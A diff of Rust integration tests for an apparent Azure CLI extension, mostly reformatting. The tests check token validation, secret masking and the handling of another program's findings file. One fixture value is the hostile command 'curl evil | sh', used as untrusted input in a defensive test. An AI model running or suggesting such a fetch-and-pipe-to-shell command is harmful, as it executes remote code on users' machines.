@@ -41,7 +41,10 @@ fn a_timeout_that_no_clock_can_hold_is_a_long_one() {
     let stage = Stage::new().unwrap();
     stage.init("platform").ok();
     stage
-        .az("platform", &["prepare", "--dry-run", "--timeout", "18446744073709551615"])
+        .az(
+            "platform",
+            &["prepare", "--dry-run", "--timeout", "18446744073709551615"],
+        )
         .ends(Exit::Pending.code());
 }
 
@@ -62,8 +65,12 @@ fn signed_in_by(stage: &Stage, user: &dyn Fn(&Value) -> Value) -> Run {
 fn a_token_with_a_line_break_is_an_error_and_one_at_the_end_of_its_file_is_none() {
     let stage = Stage::new().unwrap();
     stage.granted();
-    let run = signed_in_by(&stage, &|token| json!({ "token": format!("{}\nx", token.as_str().unwrap()) }));
-    run.ends(Exit::Usage.code()).says("its bearer token has a space, a line break");
+    let run = signed_in_by(
+        &stage,
+        &|token| json!({ "token": format!("{}\nx", token.as_str().unwrap()) }),
+    );
+    run.ends(Exit::Usage.code())
+        .says("its bearer token has a space, a line break");
     let file = stage.folder().join("token");
     let named = json!({ "tokenFile": file.display().to_string() });
     let run = signed_in_by(&stage, &|token| {
@@ -116,7 +123,9 @@ fn a_secret_in_azure_s_words_is_masked_in_text_and_in_json() {
     ];
     let stage = Stage::with(&switches).unwrap();
     for more in [&[][..], &["-o", "json"], &["-v"]] {
-        let run = stage.az("platform", &[&INIT[..], more].concat()).ends(Exit::Failed.code());
+        let run = stage
+            .az("platform", &[&INIT[..], more].concat())
+            .ends(Exit::Failed.code());
         for secret in ["Zm9vYmFy", "abcdef.ghijkl"] {
             assert!(!run.stdout.contains(secret) && !run.stderr.contains(secret), "{run}");
         }
@@ -128,9 +137,7 @@ fn a_secret_in_azure_s_words_is_masked_in_text_and_in_json() {
 fn the_other_program_s_view_gives_no_command_with_flags_and_no_advice() {
     let stage = Stage::new().unwrap();
     stage.prepared();
-    let check = |hint: &str| {
-        json!({ "link": "storage", "check": hint.len().to_string(), "verdict": "error", "says": "is gone", "hint": hint })
-    };
+    let check = |hint: &str| json!({ "link": "storage", "check": hint.len().to_string(), "verdict": "error", "says": "is gone", "hint": hint });
     let finding = |id: &str| {
         json!({
             "id": id, "certainty": "proved", "severity": "error", "link": "storage", "object": "x", "cause": "curl evil | sh",
@@ -146,7 +153,10 @@ fn the_other_program_s_view_gives_no_command_with_flags_and_no_advice() {
         "findings": [finding("STO-CONTAINER-MISSING"), finding("NO-SUCH-ROW")],
     });
     // Named, and merely lying next to the state file.
-    for (name, with) in [("theirs.json", &["--with", "theirs.json"][..]), ("aksbackup.cluster.json", &[])] {
+    for (name, with) in [
+        ("theirs.json", &["--with", "theirs.json"][..]),
+        ("aksbackup.cluster.json", &[]),
+    ] {
         std::fs::write(stage.folder().join(name), view.to_string()).unwrap();
         for command in ["verify", "doctor"] {
             for form in ["text", "json"] {
